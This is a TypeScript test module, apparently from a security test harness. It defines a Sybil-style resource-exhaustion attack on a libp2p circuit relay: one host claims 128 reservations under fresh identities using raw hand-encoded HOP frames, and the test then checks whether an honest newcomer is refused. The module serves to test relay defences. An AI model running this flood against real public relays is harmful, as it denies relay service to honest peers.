import { setTimeout as passed } from 'node:timers/promises'
import { frames, MULTISTREAM, negotiation, RawPeer } from '../../support/peers/raw-peer.ts'
import type { Attack } from './harness/attack.ts'
import { finding } from './harness/finding.ts'
import { attacker, newcomer } from './harness/hosts.ts'
import { allOf } from './harness/while.ts'

const HOP = '/libp2p/circuit/relay/0.2.0/hop'
/** A HopMessage of type RESERVE, after its length. */
const RESERVE = Uint8Array.of(2, 0x08, 0x00)
/** The field `status` of an answer: OK, and RESERVATION_REFUSED. */
const OK = Buffer.of(0x28, 100)
const REFUSED = Buffer.of(0x28, 0xc8, 0x01)
const IDENTITIES = 128
const BATCH = 16
const ANSWER_MS = 3_000

/** Identities are free: a host has as many as it likes. */
export const hoggedRelay: Attack = {
  title: `relay: ${IDENTITIES} reservations of one host`,
  short: true,
  async measure(stage) {
    const victim = await stage.victim({ args: ['--relay-server'] })
    const [address = ''] = victim.addresses()
    let granted = 0
    for (let n = 0; n < IDENTITIES; n += BATCH) {
      const batch = Array.from({ length: BATCH }, () => reserves(address, attacker()))
      granted += (await allOf(batch)).filter(Boolean).length
    }
    const honest = await reserves(address, newcomer(0)).catch(() => false)
    return [finding(this.title, 'honest host refused', honest ? 0 : 1, `${granted} granted to the one host`)]
  },
}

/** Asks for a reservation as somebody new, and stays. @returns whether it was granted */
async function reserves(address: string, from: string): Promise<boolean> {
  const peer = await RawPeer.dial(address, { from })
  const granted = new Promise<boolean>(resolve => {
    let all = Buffer.alloc(0)
    peer.onBytes(bytes => {
      all = Buffer.concat([all, bytes])
      if (all.includes(OK)) resolve(true)
      else if (all.includes(REFUSED)) resolve(false)
    })
  })
  peer.send(frames.open(1), frames.data(1, negotiation(MULTISTREAM, HOP)), frames.data(1, RESERVE))
  return await Promise.race([granted, passed(ANSWER_MS).then(() => false)])
}
